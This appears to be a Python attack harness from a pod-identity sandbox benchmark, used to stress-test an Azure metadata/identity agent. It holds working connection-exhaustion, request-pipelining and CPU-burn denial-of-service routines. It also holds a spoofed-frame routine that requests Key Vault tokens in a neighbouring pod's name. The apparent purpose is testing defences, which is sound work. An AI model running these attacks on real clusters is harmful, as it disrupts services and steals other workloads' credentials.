"""Pods that attack the agent, one kind of attack each: programs that run inside a pod.

    python3 -m bench.stage.attackers connections|pipelines|forged|burn SECONDS [ADDRESS]

refusals     (wrk does it) requests without `Metadata: true`, on eight connections
connections  as many open connections as the agent lets it have, up to 10,000
pipelines    on 256 connections, 32 requests of 15 kB each behind one that is held
forged       conversations in the name of ADDRESS, a neighbour's, by raw frames
burn         no request at all: the CPU time alone, the control of all others
"""

from __future__ import annotations

import os
import resource
import select
import socket
import sys
import time
from contextlib import suppress

from podidentity_sandbox.demo.forger import gateway, own
from podidentity_sandbox.demo.frames import Wire

_IMDS = ("169.254.169.254", 80)
_TARGET = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net"
_HEAD = f"GET {_TARGET} HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata: true\r\n"
MOST_CONNECTIONS, PIPELINED, PIPELINES = 10_000, 32, 256
_FILLING = 15_000
"""Bytes of a header that fills a request up to the agent's limit."""


def connections(deadline: float) -> None:
    """Hold as many connections as possible, and replace those that were closed."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (MOST_CONNECTIONS + 100,) * 2)
    poll = select.epoll()
    held: dict[int, socket.socket] = {}
    while time.monotonic() < deadline:
        for _ in range(min(200, MOST_CONNECTIONS - len(held))):
            client = socket.socket()
            client.setblocking(False)
            with suppress(BlockingIOError):
                client.connect(_IMDS)
            held[client.fileno()] = client
            poll.register(client, select.EPOLLIN | select.EPOLLHUP)
        for fd, _ in poll.poll(0.05):
            if not _is_open(held[fd]):
                held.pop(fd).close()
    print(len(held))


def pipelines(deadline: float) -> None:
    """Send what the agent must keep while the first request of each connection is held."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (PIPELINES + 100,) * 2)
    pieces = f"{_HEAD}Filling: {'x' * _FILLING}\r\n\r\n".encode() * PIPELINED
    sending: dict[socket.socket, memoryview] = {}
    while time.monotonic() < deadline:
        while len(sending) < PIPELINES:
            client = socket.socket()
            client.setblocking(False)
            with suppress(BlockingIOError):
                client.connect(_IMDS)
            sending[client] = memoryview(pieces)
        for client, left in list(sending.items()):
            if not _is_open(client):
                client.close()
                del sending[client]
                continue
            with suppress(BlockingIOError, OSError):
                sending[client] = left[client.send(left) :] if left else left
        time.sleep(0.01)


def forged(deadline: float, victim: str) -> None:
    """Open conversations in the name of `victim`, and ask for a token in each."""
    mac, address = own()
    via = Wire(mac, address).resolve(gateway(), deadline)
    wire = Wire(mac, victim)
    request, port = f"{_HEAD}\r\n".encode(), 20_000
    while time.monotonic() < deadline:
        wire.request_arp(gateway())
        first, port = port, port + 50 if port < 60_000 else 20_000
        for each in range(first, first + 50):
            wire.send_tcp(via, _IMDS, each, (each, 0), 0x02)
        end = time.monotonic() + 0.02
        for each in range(first, first + 50):
            for segment in wire.segments(_IMDS[0], end - time.monotonic(), port=each):
                if segment.flags & 0x12 == 0x12:
                    numbers = (each + 1, segment.sequence + 1)
                    wire.send_tcp(via, _IMDS, each, numbers, 0x18, data=request)
                break


def burn(deadline: float) -> None:
    """Use a processor."""
    while time.monotonic() < deadline:
        pass


def _is_open(client: socket.socket) -> bool:
    try:
        return client.recv(65536) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def main() -> None:
    """Run one attack."""
    kind, seconds, *rest = sys.argv[1:]
    deadline = time.monotonic() + float(seconds)
    if kind == "forged":
        forged(deadline, *rest)
    else:
        {"connections": connections, "pipelines": pipelines, "burn": burn}[kind](deadline)
    os._exit(0)  # thousands of sockets are closed faster by the kernel


if __name__ == "__main__":
    main()
